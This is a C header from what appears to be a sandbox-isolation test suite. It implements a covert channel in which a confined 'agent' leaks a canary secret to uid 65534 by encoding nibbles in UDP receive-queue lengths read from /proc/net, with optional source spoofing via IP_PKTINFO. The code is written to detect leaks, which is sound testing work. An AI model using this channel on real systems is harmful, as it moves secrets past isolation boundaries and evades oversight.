/* SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause) */
/* atk_recvq.h - the body of the udp_recvq_diag family of attacks that differ only in address
 * family, protocol and source (udp6_recvq_diag, udplite_recvq_diag, udp_recvq_v4mapped,
 * udp_recvq_self_source, udp6_recvq_self_source, udplite_recvq_self_source). Included ONCE, at
 * the end of such an attack file, after its variant defines:
 *   RQ_NAME      the attack's name          RQ_AFAM   family of the agent's sockets
 *   RQ_OFAM      family of the outsider's datagrams (AF_INET to an AF_INET6 agent: v4-mapped)
 *   RQ_PROTO     0, or IPPROTO_UDPLITE      RQ_PROC   the /proc/net table uid 65534 reads
 *   RQ_SPOOF     1: the outsider sends from the agent's own address (IP_PKTINFO / IPV6_PKTINFO)
 *   RQ_FLAGS     the struct atk flags       RQ_EVIDENCE  the evidence line when it leaks
 * The agent makes RQ_SOCKS sockets after its recv and has each autobound by a refused sendto to
 * loopback port 9 (bind itself is refused by seccomp); uid 65534 finds them in RQ_PROC (the
 * agent's uid, new since the "pre" sync) and sends each RQ_N + 1 datagrams carrying the socket's
 * index; the agent reads the index and then as many more as nibble j of the canary says; uid
 * 65534 reads every socket's rx_queue. Defines the attack's main(). */
#ifndef MNC_ATK_RECVQ_H
#define MNC_ATK_RECVQ_H

#include <arpa/inet.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"
#include "atk_variants.h"

#define RQ_SOCKS 28 /* one per nibble of the 14-character canary */
#define RQ_N 16

static socklen_t mkaddr(int fam, struct sockaddr_storage *ss, unsigned port)
{
    memset(ss, 0, sizeof(*ss));
    if (fam == AF_INET) {
        struct sockaddr_in *a = (struct sockaddr_in *)ss;
        a->sin_family = AF_INET;
        a->sin_port = htons((uint16_t)port);
        a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        return sizeof(*a);
    }
    struct sockaddr_in6 *a = (struct sockaddr_in6 *)ss;
    a->sin6_family = AF_INET6;
    a->sin6_port = htons((uint16_t)port);
    if (RQ_AFAM == AF_INET6 && RQ_OFAM == AF_INET) { /* v4-mapped 127.0.0.1 */
        a->sin6_addr.s6_addr[10] = a->sin6_addr.s6_addr[11] = 0xff;
        a->sin6_addr.s6_addr[12] = 127;
        a->sin6_addr.s6_addr[15] = 1;
    } else {
        a->sin6_addr = in6addr_loopback;
    }
    return sizeof(*a);
}

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "pre");
    int s[RQ_SOCKS], one = 1, ported = 0;
    struct sockaddr_storage nine;
    socklen_t nl = mkaddr(RQ_AFAM, &nine, 9);
    for (int i = 0; i < RQ_SOCKS; i++) {
        s[i] = socket(RQ_AFAM, SOCK_DGRAM | SOCK_CLOEXEC, RQ_PROTO);
        long o = (s[i] < 0 || !RQ_SPOOF) ? 0 : setsockopt(s[i], SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        long r = s[i] < 0 ? -1 : sendto(s[i], "x", 1, 0, (struct sockaddr *)&nine, nl);
        struct sockaddr_storage me;
        socklen_t ml = sizeof(me);
        if (i == 0) {
            atk_try(c, "socket", s[i]);
            if (RQ_SPOOF)
                atk_try(c, "SO_REUSEADDR", o);
            atk_try(c, "sendto loopback:9 (autobinds even if refused)", r);
        }
        ported += s[i] >= 0 && getsockname(s[i], (struct sockaddr *)&me, &ml) == 0 &&
                  ((struct sockaddr_in *)&me)->sin_port != 0; /* sin6_port is at the same offset */
    }
    atk_note(c, "%d sockets have a port", ported);
    atk_sync(c, "bound");
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < RQ_SOCKS; i++) {
        unsigned char j;
        if (s[i] < 0 || recv(s[i], &j, 1, MSG_DONTWAIT) != 1 || j >= RQ_SOCKS || (size_t)j / 2 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 2];
        unsigned nib = j % 2 ? v & 15 : v >> 4;
        for (unsigned k = 0; k < nib; k++)
            if (recv(s[i], &j, 1, MSG_DONTWAIT) != 1)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, RQ_SOCKS);
    atk_sync(c, "read");
    return 0;
}

static struct atkv_udp_snap before;
static unsigned ports[RQ_SOCKS];
static int nports;

/* RQ_SPOOF: a local address other than loopback's for the outsider to bind (v4: 127.0.0.2;
 * v6: the first non-loopback IPv6 address of the host), 0 if there is none */
static int other_local(struct sockaddr_storage *ss, unsigned port)
{
    memset(ss, 0, sizeof(*ss));
    if (RQ_OFAM == AF_INET) {
        struct sockaddr_in *a = (struct sockaddr_in *)ss;
        a->sin_family = AF_INET;
        a->sin_port = htons((uint16_t)port);
        a->sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1);
        return 1;
    }
    struct ifaddrs *ifa, *i;
    int ok = 0;
    if (getifaddrs(&ifa) != 0)
        return 0;
    for (i = ifa; i && !ok; i = i->ifa_next) {
        if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET6 || (i->ifa_flags & IFF_LOOPBACK))
            continue;
        struct sockaddr_in6 *a = (struct sockaddr_in6 *)i->ifa_addr;
        if (IN6_IS_ADDR_LINKLOCAL(&a->sin6_addr))
            continue;
        memcpy(ss, a, sizeof(*a));
        a = (struct sockaddr_in6 *)ss;
        a->sin6_port = htons((uint16_t)port);
        ok = 1;
    }
    freeifaddrs(ifa);
    return ok;
}

static int send_one(int s, struct sockaddr_storage *to, socklen_t tl, unsigned char j)
{
    struct iovec iov = {&j, 1};
    union {
        char buf[CMSG_SPACE(sizeof(struct in6_pktinfo))];
        struct cmsghdr align;
    } u;
    memset(&u, 0, sizeof(u));
    struct msghdr m = {.msg_name = to, .msg_namelen = tl, .msg_iov = &iov, .msg_iovlen = 1};
    if (RQ_SPOOF) { /* the source: loopback, the address the agent's socket answers on */
        m.msg_control = u.buf;
        struct cmsghdr *cm = (struct cmsghdr *)u.buf;
        if (RQ_OFAM == AF_INET) {
            struct in_pktinfo pi = {.ipi_spec_dst.s_addr = htonl(INADDR_LOOPBACK)};
            m.msg_controllen = CMSG_SPACE(sizeof(pi));
            cm->cmsg_level = IPPROTO_IP;
            cm->cmsg_type = IP_PKTINFO;
            cm->cmsg_len = CMSG_LEN(sizeof(pi));
            memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
        } else {
            struct in6_pktinfo pi = {.ipi6_addr = in6addr_loopback};
            m.msg_controllen = CMSG_SPACE(sizeof(pi));
            cm->cmsg_level = IPPROTO_IPV6;
            cm->cmsg_type = IPV6_PKTINFO;
            cm->cmsg_len = CMSG_LEN(sizeof(pi));
            memcpy(CMSG_DATA(cm), &pi, sizeof(pi));
        }
    }
    return sendmsg(s, &m, 0) == 1 ? 0 : -1;
}

/* uid 65534: RQ_N + 1 datagrams carrying j to each new socket of the agent; ports to out */
static int nobody_sends(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_udp_sock now[4096];
    int k = atkv_udp_list(RQ_PROC, now, 4096), np = 0, err = 0, one = 1;
    size_t o = 0;
    out[0] = 0;
    for (int i = 0; i < k && np < RQ_SOCKS; i++) {
        if (now[i].uid != (unsigned)c->agent_uid || atkv_udp_snap_has(&before, now[i].ino) || now[i].rx != 0)
            continue;
        int s = socket(RQ_OFAM, SOCK_DGRAM | SOCK_CLOEXEC, RQ_PROTO);
        if (s < 0) {
            err = errno;
            continue;
        }
        if (RQ_SPOOF) {
            struct sockaddr_storage me;
            setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
            if (!other_local(&me, now[i].port) ||
                bind(s, (struct sockaddr *)&me,
                     RQ_OFAM == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6)) != 0) {
                err = errno ? errno : EADDRNOTAVAIL;
                close(s);
                continue;
            }
        }
        struct sockaddr_storage to;
        socklen_t tl = mkaddr(RQ_OFAM, &to, now[i].port);
        unsigned char j = (unsigned char)np;
        for (int d = 0; d <= RQ_N; d++)
            if (send_one(s, &to, tl, j) != 0) {
                err = errno;
                break;
            }
        close(s);
        o += (size_t)snprintf(out + o, n - o, "%u,", now[i].port);
        np++;
        if (o >= n)
            break;
    }
    if (o < n)
        snprintf(out + o, n - o, ";%s", atk_errname(err));
    return 0;
}

/* uid 65534: rx_queue of each port in units of one datagram, measured on a socket of its own of
 * the agent's kind receiving from the outsider's kind */
static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t cap)
{
    (void)c;
    char msg[RQ_SOCKS / 2 + 1] = {0};
    int r = socket(RQ_AFAM, SOCK_DGRAM | SOCK_CLOEXEC, RQ_PROTO),
        w = socket(RQ_OFAM, SOCK_DGRAM | SOCK_CLOEXEC, RQ_PROTO);
    struct sockaddr_storage a, to;
    socklen_t al = mkaddr(RQ_AFAM, &a, 0);
    if (RQ_AFAM == AF_INET6 && RQ_OFAM == AF_INET)
        ((struct sockaddr_in6 *)&a)->sin6_addr = in6addr_any; /* dual-stack, as the agent's */
    if (r < 0 || w < 0 || bind(r, (struct sockaddr *)&a, al) != 0 || getsockname(r, (struct sockaddr *)&a, &al) != 0)
        return 0;
    unsigned myport = ntohs(((struct sockaddr_in *)&a)->sin_port);
    socklen_t tl = mkaddr(RQ_OFAM, &to, myport);
    if (sendto(w, "j", 1, 0, (struct sockaddr *)&to, tl) != 1)
        return 0;
    usleep(20000);
    if (atkv_udp_nibbles(RQ_PROC, myport, ports, nports, RQ_N, msg, sizeof(msg)) != 0)
        return 0;
    snprintf(out, cap, "%s", msg);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        atkv_udp_snap_take(RQ_PROC, &before);
        nports = 0;
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        char out[1024];
        if (atk_as_uid(c, ATK_NOBODY, nobody_sends, out, sizeof(out)) < 0)
            return;
        nports = atkv_udp_ports(out, ports, RQ_SOCKS);
        fprintf(stderr, "%s: uid 65534 sent to %d sockets (%s)\n", RQ_NAME, nports, out);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[RQ_SOCKS / 2 + 2] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads_queues, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "%s (how many datagrams the agent read)", RQ_EVIDENCE);
}

static const struct atk A = {RQ_NAME, "udp_recvq_diag: " RQ_NAME, RQ_FLAGS, NULL, agent, on_sync, NULL, NULL};
ATK_MAIN(A)

#endif
